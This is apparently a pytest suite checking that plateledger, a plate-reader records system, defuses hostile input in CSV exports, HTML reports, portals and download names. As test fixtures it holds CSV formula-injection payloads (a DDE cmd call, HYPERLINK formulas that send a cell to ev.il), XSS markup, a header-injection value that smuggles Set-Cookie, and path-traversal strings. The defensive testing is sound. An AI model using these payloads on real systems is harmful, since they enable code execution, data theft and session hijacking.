"""Text typed by someone who means harm, in what plateledger writes out for people to open:
export files, audit exports, case reports, statutory reports, the public portal, the page
shells and the map workspace.

The promise: a file a spreadsheet opens holds text, never a formula (a cell that would start
one — ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is prefixed with ``'``, as
OWASP's guidance on CSV injection asks, and a carriage return inside a cell never ends its
row); a page or an HTML report shows hostile text as
text, never as markup; a download's file name is made by the server, never from what a
user typed. The text comes from where the attacker can type it: a camera posts the vehicle's
make, model, colour and type; an officer types a reason, a case number and a court; an
agency's admin names the agency, its custodian and its cameras.

World: the API conftest's Union City (ucpd: ivy the investigator, audrey the auditor, an
admin) and Fremont (fpd), real app, SQLite catalog, chDB store (plates unique per test).
The map workspace runs in a real server process and headless Chromium (skipped without
Chromium); the command line runs against the session's live server.

Each test is an attack; one marked ``xfail(strict=True)`` is a hole the code still has,
and its reason says where.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from plateledger.api.app import create_app
from plateledger.catalog import open_catalog
from plateledger.catalog.passwords import FAST
from plateledger.settings import Settings
from tests.api.conftest import PASSWORD, Seed, code, login
from tests.conftest import LiveServer
from tests.factories import make_read
from tests.factories import unique_plate as plate

NOW = datetime.now(UTC).replace(microsecond=0)
ASK: dict[str, Any] = {"kind": "exact", "purpose": "stolen_vehicle", "offense_type": "240",
                       "case_number": "UC-2026-0777", "reason": "grey sedan taken from a lot"}

FORMULAS = (
    '=HYPERLINK("http://ev.il","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
"""Cells a spreadsheet would run: each of the six starts OWASP names."""

MARKUP = '<img src=x onerror=alert(1)></script><script>alert(2)</script>'
"""Text that, pasted into a page unescaped, runs a script or breaks out of a script block."""


@dataclass(frozen=True)
class World:
    api: TestClient
    seed: Seed

    def login(self, username: str) -> dict[str, str]:
        secrets = {"ivy": self.seed.investigator_totp, "audrey": self.seed.auditor_totp}
        secret = secrets.get(username)
        return login(self.api, username, code(secret) if secret else None)

    def reads(self, *reads: Any) -> None:
        self.api.app.state.store.insert_reads(list(reads))  # type: ignore[attr-defined]

    def export(self, headers: dict[str, str], **body: Any) -> Any:
        return self.api.post("/v1/exports", headers=headers, json={**ASK, **body})

    def rename(self, **settings: Any) -> None:
        """Union City's admin changes the agency's published settings."""
        changed = self.api.patch("/v1/admin/agency", headers=self.login("ucpd-admin"),
                                 json=settings)
        assert changed.status_code == 200, changed.text


@pytest.fixture
def world(settings: Settings, seed: Seed) -> Iterator[World]:
    with TestClient(create_app(settings)) as api:
        yield World(api, seed)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def defused(value: str) -> bool:
    """Whether a spreadsheet reads ``value`` as text or a number: it starts with none of
    the starts of a formula (OWASP: ``=``, ``+``, ``-``, ``@``, tab, carriage return), or
    it is a number (a longitude of ``-122.04`` stays a number)."""
    if not value.startswith(("=", "+", "-", "@", "\t", "\r")):
        return True
    try:
        float(value)
    except ValueError:
        return False
    return True


# -- search exports ---------------------------------------------------------------------


def test_vehicle_text_a_camera_posts_is_text_in_a_csv_export(world: World) -> None:
    """A camera posts a make, model, colour and type that a spreadsheet would run: each
    cell of the CSV holds it after an apostrophe, and the NDJSON holds it as posted."""
    wanted, texts = plate("7"), FORMULAS[:5]
    world.reads(*[
        make_read(wanted, camera="uc-cam-1", owner=world.seed.ucpd_id, minutes_ago=10 + i,
                  now=NOW, vehicle={"make": text, "model": text, "color": text, "type": text})
        for i, text in enumerate(texts)
    ])
    ivy = world.login("ivy")
    exported = world.export(ivy, params={"plate": wanted})
    assert exported.status_code == 200, exported.text
    rows = csv_rows(exported.text)
    assert len(rows) == len(texts)
    for row in rows:
        cells = [row[c] for c in ("vehicle_make", "vehicle_model", "vehicle_color",
                                  "vehicle_type")]
        assert len(set(cells)) == 1 and cells[0][0] == "'" and cells[0][1:] in texts, cells
    assert {row["vehicle_make"][1:] for row in rows} == set(texts)
    as_json = world.export(ivy, params={"plate": wanted}, format="ndjson")
    makes = {json.loads(line)["vehicle_make"] for line in as_json.text.splitlines()}
    assert makes == set(texts)


def test_a_carriage_return_in_vehicle_text_does_not_break_an_export_row(world: World) -> None:
    wanted = plate("7")
    model = "Camry\r=cmd|' /C calc'!A0"  # no quote or comma, so csv does not quote it
    world.reads(make_read(wanted, camera="uc-cam-1", owner=world.seed.ucpd_id, now=NOW,
                          vehicle={"make": "\r=1+1", "model": model}))
    exported = world.export(world.login("ivy"), params={"plate": wanted})
    assert exported.status_code == 200, exported.text
    # A spreadsheet ends a row at a carriage return outside quotes, as csv does.
    lines = list(csv.reader(io.StringIO(exported.text, newline="")))
    assert len(lines) == 2, lines
    assert all(defused(cell) for line in lines for cell in line), lines
    [row] = csv_rows(exported.text)
    assert row["vehicle_model"] == model and row["vehicle_make"] == "'\r=1+1"


def test_an_export_is_named_by_the_server_whatever_the_case_number_says(
    world: World,
) -> None:
    """A case number with quotes, a path and a header of its own does not reach the
    download's name: the file is named after its audit entry."""
    world.reads(make_read(wanted := plate("7"), camera="uc-cam-1", owner=world.seed.ucpd_id,
                          now=NOW))
    ivy = world.login("ivy")
    hostile = '../../x"; filename="evil.html'
    for number in (hostile, hostile + "\r\nSet-Cookie: session=stolen"):
        exported = world.export(ivy, params={"plate": wanted}, case_number=number)
        if exported.status_code != 200:
            assert 400 <= exported.status_code < 500, exported.text
            continue
        index = exported.headers["x-audit-index"]
        assert exported.headers["content-disposition"] == \
            f'attachment; filename="plateledger-export-{index}.csv"'
        assert "set-cookie" not in exported.headers


# -- the audit export -------------------------------------------------------------------


def test_an_officers_reason_and_case_number_are_text_in_the_audit_export(
    world: World,
) -> None:
    world.reads(make_read(wanted := plate("7"), camera="uc-cam-1", owner=world.seed.ucpd_id,
                          now=NOW))
    ivy = world.login("ivy")
    reason = '=HYPERLINK("http://ev.il/?"&A1,"open") grey sedan taken from a lot'
    searched = world.api.post("/v1/searches", headers=ivy, json={
        **ASK, "params": {"plate": wanted}, "reason": reason, "case_number": "@SUM(1)"})
    assert searched.status_code == 200, searched.text
    audrey = world.login("audrey")
    exported = world.api.get("/v1/audit/export", headers=audrey, params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    [row] = [r for r in csv_rows(exported.text) if wanted in r["License Plate"]]
    assert row["Reason"] == "'" + reason and row["Case #"] == "'@SUM(1)"
    assert all(defused(cell) for cell in row.values())
    assert exported.headers["content-disposition"] == 'attachment; filename="audit-export.csv"'


# -- case reports -----------------------------------------------------------------------


def test_hostile_names_and_a_court_are_text_in_the_case_report(world: World) -> None:
    """The agency's name (its admin's), a court and a case title (the officer's): the
    HTML report shows them escaped, under a policy that runs no script."""
    world.rename(name=MARKUP)
    world.reads(make_read(wanted := plate("7"), camera="uc-cam-1", owner=world.seed.ucpd_id,
                          now=NOW))
    ivy = world.login("ivy")
    opened = world.api.post("/v1/cases", headers=ivy,
                            json={"number": "UC-2026-0777", "title": MARKUP})
    assert opened.status_code == 201, opened.text
    exported = world.export(ivy, params={"plate": wanted}, legal_basis={
        "kind": "warrant", "number": "W-1", "court": MARKUP})
    assert exported.status_code == 200, exported.text
    report = world.api.get("/v1/cases/UC-2026-0777/report?format=html", headers=ivy)
    assert report.status_code == 200, report.text
    assert "<img" not in report.text and "<script>alert" not in report.text
    assert report.text.count("</script>") == 1  # the report's own JSON block
    assert "&lt;img src=x onerror=alert(1)&gt;" in report.text
    assert "script-src" not in report.headers["content-security-policy"]
    assert "default-src 'none'" in report.headers["content-security-policy"]


def test_a_case_number_with_quotes_does_not_name_the_pdf(world: World) -> None:
    ivy = world.login("ivy")
    number = 'UC"2026;x=y'
    opened = world.api.post("/v1/cases", headers=ivy, json={"number": number})
    assert opened.status_code == 201, opened.text
    report = world.api.get("/v1/cases/UC%222026%3Bx%3Dy/report?format=pdf", headers=ivy)
    assert report.status_code == 200, report.text
    assert report.headers["content-disposition"] == \
        'attachment; filename="case-UC_2026_x_y.pdf"'


# -- statutory reports ------------------------------------------------------------------


def _ca_report(world: World, fmt: str) -> Any:
    today = datetime.now(UTC).date()
    response = world.api.get("/v1/reports/ca-policy", params={
        "agency": "ucpd", "start": (today - timedelta(days=30)).isoformat(),
        "end": today.isoformat(), "format": fmt})
    assert response.status_code == 200, response.text
    return response


def _custodian_cell(world: World) -> str:
    [row] = [r for r in csv_rows(_ca_report(world, "csv").text) if r["element"] == "custodian"]
    return row["value"]


def test_a_custodian_of_markup_is_text_in_the_statutory_report(world: World) -> None:
    world.rename(custodian_contact=MARKUP)
    page = _ca_report(world, "html")
    assert "<img" not in page.text and "<script" not in page.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
    [custodian] = [e for e in _ca_report(world, "json").json()["elements"]
                   if e["key"] == "custodian"]
    assert custodian["value"] == MARKUP


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_a_custodian_a_spreadsheet_would_run_is_text_in_the_report_csv(
    world: World, formula: str
) -> None:
    world.rename(custodian_contact=formula)
    assert _custodian_cell(world) == "'" + formula


@pytest.mark.parametrize("formula", FORMULAS[4:])
def test_a_custodian_after_a_tab_or_return_is_text_in_the_report_csv(
    world: World, formula: str
) -> None:
    world.rename(custodian_contact=formula)
    assert _custodian_cell(world) == "'" + formula


def test_a_carriage_return_in_the_custodian_does_not_break_a_report_row(world: World) -> None:
    custodian = "Records Unit\r=cmd|' /C calc'!A0"  # no quote or comma: left unquoted
    world.rename(custodian_contact=custodian)
    text = _ca_report(world, "csv").text
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert all(defused(cell) for line in lines for cell in line), lines
    assert _custodian_cell(world) == custodian


# -- the public portal and the page shells ----------------------------------------------


def test_an_agencys_hostile_settings_are_text_on_its_public_pages(world: World) -> None:
    """Name, jurisdiction and custodian of markup: the portal, the list of portals and the
    reports page show them escaped; the page shells that carry the agencies as JSON do
    not let a name close their script block."""
    world.rename(name=MARKUP, jurisdiction=MARKUP, custodian_contact=MARKUP)
    for path in ("/transparency/ucpd", "/transparency", "/reports"):
        page = world.api.get(path)
        assert page.status_code == 200, (path, page.text)
        assert "<img src=x" not in page.text and "<script>alert" not in page.text, path
    portal = world.api.get("/transparency/ucpd").text
    assert portal.count("&lt;img src=x onerror=alert(1)&gt;") >= 2  # name, custodian
    for path in ("/search", "/audit", "/workspace"):
        page = world.api.get(path)
        assert page.status_code == 200, (path, page.text)
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, path
        assert "default-src 'none'" in page.headers["content-security-policy"]
        assert "'unsafe-inline'" not in page.headers["content-security-policy"]


def test_a_hostile_slug_or_figure_names_no_download(world: World) -> None:
    """A figure's CSV is named after the agency's slug and the figure; neither can be
    chosen beyond the agencies and figures that exist."""
    good = world.api.get("/v1/transparency/agencies/ucpd/figures/partners?format=csv")
    assert good.status_code == 200, good.text
    assert good.headers["content-disposition"] == "attachment; filename=ucpd-partners.csv"
    for slug, figure in (('ucpd";x=', "partners"), ("ucpd", 'partners"; filename=x.html'),
                         ("ucpd", "..%2F..%2Fetc%2Fpasswd")):
        response = world.api.get(f"/v1/transparency/agencies/{slug}/figures/{figure}",
                                 params={"format": "csv"})
        assert 400 <= response.status_code < 500, response.text
        assert "content-disposition" not in response.headers


# -- the command line -------------------------------------------------------------------


def test_vehicle_text_a_camera_posts_is_text_in_the_command_lines_csv(
    live_server: LiveServer,
) -> None:
    from plateledger.cli.main import app

    wanted = "9F" + uuid.uuid4().hex[:4].upper().replace("0", "A").replace("O", "B")
    make = '=HYPERLINK("http://ev.il","x")'
    body = [{"camera_id": live_server.camera_id, "ts": int(time.time() * 1000) - 30_000,
             "plate": wanted, "confidence": 0.9, "vehicle": {"make": make}}]
    posted = httpx.post(f"{live_server.url}/v1/reads", json=body, timeout=60,
                        headers={"X-API-Key": live_server.camera_key})
    assert posted.status_code == 200, posted.text
    args = ["search", "timeline", wanted, "--purpose", "stolen_vehicle", "--reason",
            "grey sedan taken from a lot", "--case", "UC-2026-0777", "--offense", "240",
            "--url", live_server.url, "--token", live_server.token("ucpd.investigator")]
    rows: list[dict[str, str]] = []
    deadline = time.monotonic() + 60
    while not rows and time.monotonic() < deadline:  # the ingest batcher writes within 1 s
        result = CliRunner().invoke(app, [*args, "--csv"])
        assert result.exit_code == 0, result.output
        rows = csv_rows(result.output)
        if not rows:
            time.sleep(0.3)
    [row] = rows
    assert row["vehicle_make"] == "'" + make


# -- the map workspace (headless Chromium) ----------------------------------------------

@dataclass(frozen=True)
class MapServer:
    url: str
    token: str


@pytest.fixture
def map_server(tmp_path: Path) -> Iterator[MapServer]:
    """A real server with one agency whose admin named a camera in markup (skipped where
    Chromium, which draws its map, is not installed)."""
    from tests.web.harness import NO_CHROMIUM, SERVER, chromium_missing, free_port, wait_ready

    if chromium_missing():
        pytest.skip(NO_CHROMIUM)
    data_dir = tmp_path / "data"
    catalog = open_catalog(Settings(data_dir=data_dir, require_totp=False),
                           password_hasher=FAST)
    try:
        agency = catalog.add_agency("Union City PD", "ucpd", "municipal", "CA")
        catalog.add_camera("uc-cam-1", agency.id, name=MARKUP, lat=37.59, lon=-122.04,
                           heading=90.0)
        catalog.add_camera("uc-cam-2", agency.id, name="Main St", lat=37.60, lon=-122.05)
        catalog.add_user(agency.id, "ivy", PASSWORD, ["investigator"])
    finally:
        catalog.engine.dispose()
    port = free_port()
    env = {**os.environ, "PLATELEDGER_REQUIRE_TOTP": "false"}
    with (tmp_path / "server.log").open("ab") as log:
        process = subprocess.Popen([sys.executable, "-c", SERVER, str(data_dir), str(port)],
                                   stdout=log, stderr=subprocess.STDOUT, env=env)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_ready(url, process)
        token = httpx.post(f"{url}/v1/auth/token", timeout=30, json={
            "username": "ivy", "password": PASSWORD, "totp": None}).json()["access_token"]
        yield MapServer(url, str(token))
    finally:
        process.terminate()
        process.wait(timeout=60)


TOOLTIPS = """(() => {
  const shown = [];
  window.plateledgerWorkspace.map.eachLayer((layer) => {
    const tip = layer.getTooltip && layer.getTooltip();
    if (!tip) return;
    layer.openTooltip();
    const node = tip.getElement();
    // the tooltip holds its text, in one span at most: no element made from the name
    const made = [...node.querySelectorAll("*")].filter((e) => e.tagName !== "SPAN"
      || e.children.length > 0 || e.parentElement !== node);
    shown.push({ text: node.textContent, elements: made.length });
    layer.closeTooltip();
  });
  return shown;
})()"""


def test_a_camera_name_is_text_on_the_workspace_map(
    map_server: MapServer, tmp_path: Path
) -> None:
    from tests.web.harness import Browser

    basemap = httpx.get(f"{map_server.url}/v1/basemap", timeout=30,
                        headers={"Authorization": f"Bearer {map_server.token}"}).json()
    assert MARKUP in {f["properties"].get("name") for f in basemap["features"]}
    browser = Browser(tmp_path / "profile")
    try:
        browser.goto(f"{map_server.url}/login")
        browser.evaluate(
            f"sessionStorage.setItem('plateledger.token', {json.dumps(map_server.token)})")
        browser.goto(f"{map_server.url}/workspace")
        browser.wait_for("document.querySelector('#map')?.dataset.basemap === 'ready'")
        shown = browser.evaluate(TOOLTIPS)
    finally:
        browser.close()
    assert any("uc-cam-2 (Main St)" in t["text"] for t in shown), shown
    assert all(t["elements"] == 0 for t in shown), shown
    assert any(MARKUP in t["text"] for t in shown), shown
